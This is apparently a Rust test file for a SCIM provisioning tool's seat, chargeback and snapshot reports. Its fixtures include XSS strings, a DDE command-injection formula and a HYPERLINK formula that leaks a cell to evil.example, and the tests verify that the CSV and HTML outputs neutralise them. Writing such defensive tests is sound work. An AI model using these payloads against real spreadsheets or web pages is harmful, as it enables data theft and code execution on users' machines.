//! Scenario tests of the reports over the hostile fixtures in `tests/fixtures/report/`:
//! exact CSV cells (parsed back with the `csv` crate), HTML that cannot run or fetch
//! anything, and the JSON report against a reviewed golden file.

use std::path::PathBuf;

use scim_provision::model::{Group, User};
use scim_provision::report::chargeback::Bucket;
use scim_provision::report::{
    build_report, csv_export, render_html, users_csv, Report, ReportInput, SnapshotMember,
    StaleAccountRow, CSV_HEADERS,
};

const TAKEN_AT_MS: u64 = 1_714_555_800_000; // 2024-05-01T09:30:00Z

fn fixture_path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/report")
        .join(name)
}

fn load<T: serde::de::DeserializeOwned>(name: &str) -> T {
    let text = std::fs::read_to_string(fixture_path(name)).expect("fixture readable");
    serde_json::from_str(&text).expect("fixture decodes")
}

struct Fixture {
    users: Vec<User>,
    groups: Vec<Group>,
    desired: Vec<User>,
    stale: Vec<StaleAccountRow>,
}

fn fixture() -> Fixture {
    Fixture {
        users: load("users.json"),
        groups: load("groups.json"),
        desired: load("desired.json"),
        stale: vec![
            StaleAccountRow::new("dee@example.com", "not in the directory", "deactivate"),
            StaleAccountRow::new(
                "<script>alert(1)</script>",
                "\" onmouseover=\"x",
                "<img src=x onerror=alert(1)>",
            ),
        ],
    }
}

fn report(f: &Fixture) -> Report {
    build_report(
        &ReportInput::new(&f.users, &f.groups, TAKEN_AT_MS)
            .desired(&f.desired)
            .purchased_seats(5)
            .stale(&f.stale),
    )
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn seats_against_purchased_and_desired() {
    let r = report(&fixture());
    let s = r.seats;
    assert_eq!(s.total_users, 9);
    assert_eq!(s.deactivated, 2, "bo.li and dee are deactivated");
    assert_eq!(s.active, 7, "cy has `active` unset, which counts as active");
    assert_eq!(s.purchased, Some(5));
    assert_eq!(s.unused, Some(0));
    assert_eq!(s.over_by, Some(2));
    assert_eq!(
        s.desired_active,
        Some(3),
        "ana (twice by case), mo, new.hire"
    );
}

#[test]
fn chargeback_keeps_unassigned_apart_from_a_department_named_so() {
    let r = report(&fixture());
    let dept: Vec<(Bucket, u64)> = r
        .chargeback
        .by_department
        .iter()
        .map(|b| (b.bucket.clone(), b.count))
        .collect();
    assert_eq!(
        dept,
        [
            (Bucket::Named("Engineering".into()), 2),
            (Bucket::Named("Sales".into()), 2),
            (Bucket::Named("(unassigned)".into()), 1),
            (Bucket::Named("الهندسة".into()), 1),
            (Bucket::Unassigned, 1),
        ]
    );
    let cc: Vec<(&str, u64)> = r
        .chargeback
        .by_cost_center
        .iter()
        .map(|b| (b.bucket.label(), b.count))
        .collect();
    // usr009's blank cost center is unassigned; usr003 (CC-200) is deactivated.
    assert_eq!(
        cc,
        [
            ("(unassigned)", 3),
            ("+1", 1),
            ("CC-100", 1),
            ("CC-200", 1),
            ("💸 Budget", 1)
        ]
    );
    for list in [
        &r.chargeback.by_department,
        &r.chargeback.by_cost_center,
        &r.chargeback.by_division,
        &r.chargeback.by_organization,
    ] {
        assert_eq!(list.iter().map(|b| b.count).sum::<u64>(), r.seats.active);
    }
}

#[test]
fn snapshot_sorted_with_unknown_members_kept() {
    let r = report(&fixture());
    assert_eq!(
        r.snapshot.taken_at.as_deref(),
        Some("2024-05-01T09:30:00.000Z")
    );
    let names: Vec<&str> = r
        .snapshot
        .groups
        .iter()
        .map(|g| g.display_name.as_str())
        .collect();
    assert_eq!(
        names,
        [
            "<script>alert('g')</script>",
            "=cmd|' /C calc'!A0",
            "Admins",
            "empty",
            "No members listed",
            "Sales; EMEA"
        ]
    );
    let admins = &r.snapshot.groups[2];
    let members: Vec<(Option<&str>, &str)> = admins
        .members
        .iter()
        .map(|m| (m.user_name(), m.id()))
        .collect();
    assert_eq!(
        members,
        [
            (Some("ana@example.com"), "usr001"),
            (Some("mo.chen@example.com"), "usr005"),
            (None, "ghost-1"),
        ]
    );
    match &admins.members[2] {
        SnapshotMember::Unknown(u) => assert_eq!(u.display.as_deref(), Some("Former Admin")),
        other => panic!("expected unknown, got {other:?}"),
    }
    assert!(!r.snapshot.groups[4].members_listed);
    assert!(r.snapshot.groups[3].members_listed && r.snapshot.groups[3].members.is_empty());
}

#[test]
fn csv_cells_exact_after_parsing_back() {
    let f = fixture();
    let text = users_csv(&f.users, &f.groups);
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 1 + f.users.len());
    assert_eq!(rows[0], CSV_HEADERS.map(str::to_owned));
    let row = |user_name: &str| -> Vec<String> {
        rows.iter()
            .find(|r| r.get(8).map(String::as_str) == Some(user_name))
            .unwrap_or_else(|| panic!("no row for {user_name}"))
            .clone()
    };
    assert_eq!(
        row("ana@example.com"),
        [
            "E-001",
            "Account Exec, \"Senior\"",
            "CC-100",
            "Sales",
            "Commercial",
            "Acme",
            "Mo Chen",
            "usr005",
            "ana@example.com",
            "Ana",
            "López",
            "true",
            "Admins; Sales; EMEA"
        ]
    );
    assert_eq!(
        row("formula@example.com"),
        [
            "'=1+1",
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            "'+1",
            "Engineering",
            "'-2",
            "'@x",
            "'\rx",
            "'\tx",
            "formula@example.com",
            "Fran",
            "Mula",
            "true",
            "'=cmd|' /C calc'!A0"
        ]
    );
    assert_eq!(
        row("bo.li@example.com"),
        [
            "",
            "x' onfocus='y",
            "CC-200",
            "<b>R&D</b>",
            "",
            "",
            "",
            "",
            "bo.li@example.com",
            "<script>alert(1)</script>",
            "\" onmouseover=\"x",
            "false",
            "<script>alert('g')</script>"
        ]
    );
    assert_eq!(row("mo.chen@example.com")[1], "Line one\nLine two");
    assert_eq!(row("eve,o'neil@example.com")[2], "   ");
    assert_eq!(row("rtl@example.com")[9], "مريم");
    assert_eq!(row("cy@example.com")[11], "true");
    // Row order: userName, case-folded.
    let order: Vec<&str> = rows[1..].iter().map(|r| r[8].as_str()).collect();
    let mut sorted = order.clone();
    sorted.sort_by_key(|s| s.to_lowercase());
    assert_eq!(order, sorted);
}

#[test]
fn csv_no_cell_starts_a_formula() {
    let f = fixture();
    for row in parse_csv(&users_csv(&f.users, &f.groups)) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unneutralised cell {cell:?}"
            );
        }
    }
}

#[test]
fn csv_is_rfc4180_framed() {
    let f = fixture();
    let text = users_csv(&f.users, &f.groups);
    assert!(text.ends_with("\r\n"));
    // The newline inside mo.chen's title is quoted, not a record break.
    assert!(text.contains("\"Line one\nLine two\""));
    // The raw (un-neutralised) rows parse back to the same cells as csv_export::user_rows.
    let raw = csv_export::user_rows(&f.users, &f.groups);
    let parsed = parse_csv(&text);
    for (cells, raw_cells) in parsed[1..].iter().zip(&raw) {
        let want: Vec<String> = raw_cells
            .iter()
            .map(|c| csv_export::neutralise(c).into_owned())
            .collect();
        assert_eq!(cells, &want);
    }
}

fn html() -> String {
    render_html(&report(&fixture()))
}

/// One start or end tag of the page: its name and attributes.
#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

/// Splits the page into its tags with a strict grammar: `<name attr="value" ...>`, values
/// double-quoted and free of `"`, `<` and `>`. Text (escaped data) is skipped. Any tag that
/// does not fit the grammar (an attribute broken out of its quotes, a stray `<`) fails the
/// test, so every tag found is one the renderer wrote.
fn tags(page: &str) -> Vec<Tag> {
    let mut out = Vec::new();
    let mut rest = page;
    while let Some(pos) = rest.find('<') {
        rest = &rest[pos + 1..];
        if let Some(after) = rest.strip_prefix("!DOCTYPE html>") {
            rest = after;
            continue;
        }
        let body = rest.strip_prefix('/').unwrap_or(rest);
        let name_len = body
            .find(|c: char| !c.is_ascii_alphanumeric())
            .expect("tag ends");
        assert!(
            name_len > 0,
            "stray '<' at {:?}",
            &rest[..rest.len().min(40)]
        );
        let name = body[..name_len].to_ascii_lowercase();
        let mut attrs = Vec::new();
        let mut cur = &body[name_len..];
        loop {
            cur = cur.trim_start();
            if let Some(after) = cur.strip_prefix('>') {
                cur = after;
                break;
            }
            let attr_len = cur
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == ':'))
                .expect("attribute ends");
            assert!(
                attr_len > 0,
                "malformed tag <{name} near {:?}",
                &cur[..cur.len().min(40)]
            );
            let attr = cur[..attr_len].to_ascii_lowercase();
            let value_start = cur[attr_len..]
                .strip_prefix("=\"")
                .unwrap_or_else(|| panic!("unquoted attribute {attr} on <{name}>"));
            let value_len = value_start.find('"').expect("attribute value closed");
            let value = &value_start[..value_len];
            assert!(
                !value.contains(['<', '>']),
                "raw < or > in {attr}={value:?}"
            );
            attrs.push((attr, value.to_owned()));
            cur = &value_start[value_len + 1..];
        }
        out.push(Tag { name, attrs });
        rest = cur;
    }
    out
}

const TAGS: &[&str] = &[
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "time",
    "main", "section", "table", "thead", "tbody", "tr", "th", "td", "bdi", "span", "div", "svg",
    "g", "text", "rect", "footer", "details", "summary",
];
const ATTRS: &[&str] = &[
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "id",
    "datetime",
    "colspan",
    "scope",
    "role",
    "aria-label",
    "width",
    "height",
    "viewbox",
    "x",
    "y",
    "text-anchor",
    "data-seat",
    "data-department",
    "data-count",
    "data-unassigned",
    "data-group",
];

#[test]
fn html_has_no_markup_from_data() {
    let page = html();
    for tag in tags(&page) {
        assert!(
            TAGS.contains(&tag.name.as_str()),
            "unexpected <{}>",
            tag.name
        );
        for (attr, _) in &tag.attrs {
            assert!(
                ATTRS.contains(&attr.as_str()),
                "unexpected {attr} on <{}>",
                tag.name
            );
        }
    }
    assert!(
        !page.to_lowercase().contains("<script"),
        "raw <script in page"
    );
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(page.contains("&lt;script&gt;alert(&#39;g&#39;)&lt;/script&gt;"));
    assert!(page.contains("&quot; onmouseover=&quot;x"));
    assert!(page.contains("<bdi>R&amp;D</bdi>"));
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;"));
    // RTL text and emoji pass through as text, isolated.
    assert!(page.contains("<bdi>مريم \u{202e}evil 🙂</bdi>"));
}

#[test]
fn html_fetches_nothing() {
    let page = html();
    let lower = page.to_lowercase();
    assert!(!lower.contains("http://") && !lower.contains("https://"));
    // No attribute that can name a resource (src, href, xlink:href, srcset, action...) is
    // on the allow-list checked above; check the names directly too.
    for tag in tags(&page) {
        for (attr, value) in &tag.attrs {
            assert!(
                ![
                    "src",
                    "href",
                    "xlink:href",
                    "srcset",
                    "action",
                    "poster",
                    "style"
                ]
                .contains(&attr.as_str()),
                "{attr}={value:?} on <{}>",
                tag.name
            );
        }
    }
    let css_start = page.find("<style>").expect("inline style");
    let css_end = page.find("</style>").expect("inline style ends");
    let css = &lower[css_start..css_end];
    assert!(!css.contains("url(") && !css.contains("@import") && !css.contains("@font-face"));
    assert!(page.contains("content=\"default-src 'none'; style-src 'unsafe-inline'\""));
}

#[test]
fn html_sections_chart_and_tables() {
    let page = html();
    for id in ["seats", "departments", "chargeback", "stale", "snapshot"] {
        assert!(
            page.contains(&format!("<section id=\"{id}\">")),
            "section {id}"
        );
    }
    let r = report(&fixture());
    assert_eq!(
        page.matches("<rect class=\"bar").count(),
        r.chargeback.by_department.len()
    );
    assert!(page.contains("data-department=\"Engineering\" data-count=\"2\""));
    assert!(
        page.contains("data-department=\"(unassigned)\" data-count=\"1\" data-unassigned=\"true\"")
    );
    assert!(page.contains("data-department=\"(unassigned)\" data-count=\"1\"><title>"));
    assert_eq!(page.matches("<tr class=\"stale\">").count(), 2);
    let member_rows = page.matches("<tr class=\"member").count();
    let members: usize = r.snapshot.groups.iter().map(|g| g.members.len()).sum();
    assert_eq!(member_rows, members);
    assert!(page.contains("members not returned by the server"));
    assert!(page.contains("<tr data-seat=\"over-by\">"));
    assert!(page.contains("<time datetime=\"2024-05-01T09:30:00.000Z\">"));
}

#[test]
fn html_stale_table_shows_none_when_empty() {
    let f = fixture();
    let page = render_html(&build_report(&ReportInput::new(&f.users, &f.groups, 0)));
    assert!(page.contains("<tr class=\"none\"><td colspan=\"3\">none</td></tr>"));
    assert_eq!(page.matches("<tr class=\"stale\">").count(), 0);
}

#[test]
fn outputs_do_not_depend_on_input_order() {
    let f = fixture();
    let a = report(&f);
    let mut g = fixture();
    g.users.reverse();
    g.groups.reverse();
    g.stale.reverse();
    for group in &mut g.groups {
        if let Some(m) = group.members.as_mut() {
            m.reverse();
        }
    }
    let b = report(&g);
    assert_eq!(a, b);
    assert_eq!(render_html(&a), render_html(&b));
    assert_eq!(
        users_csv(&f.users, &f.groups),
        users_csv(&g.users, &g.groups)
    );
}

#[test]
fn json_matches_the_reviewed_golden_file() {
    let json = serde_json::to_string_pretty(&report(&fixture())).expect("serializes") + "\n";
    let path = fixture_path("expected-report.json");
    if std::env::var_os("UPDATE_REPORT_FIXTURES").is_some() {
        std::fs::write(&path, &json).expect("golden file writable");
    }
    let want = std::fs::read_to_string(&path).expect("golden file readable");
    assert_eq!(
        json, want,
        "run with UPDATE_REPORT_FIXTURES=1 and review the diff"
    );
}

#[test]
fn an_incomplete_listing_is_said_in_json_and_at_the_top_of_the_page() {
    let f = fixture();
    let reasons = vec!["/Users: the page at startIndex 3 failed: HTTP 503".to_owned()];
    let report = build_report(
        &ReportInput::new(&f.users, &f.groups, TAKEN_AT_MS)
            .desired(&f.desired)
            .purchased_seats(5)
            .stale(&f.stale)
            .incomplete(&reasons),
    );
    let json = serde_json::to_value(&report).expect("serializes");
    assert_eq!(json["complete"], false);
    assert_eq!(json["incomplete"], serde_json::json!(reasons));
    let page = render_html(&report);
    let banner = page
        .find("<div id=\"incomplete\" role=\"alert\"")
        .expect("a banner");
    assert!(banner < page.find("<section id=\"seats\">").expect("seats"));
    assert!(page[banner..].contains("startIndex 3 failed: HTTP 503"));
    // The figures are the same: the report only says they may be short.
    assert_eq!(report.seats, self::report(&f).seats);
    assert!(self::report(&f).complete);
}
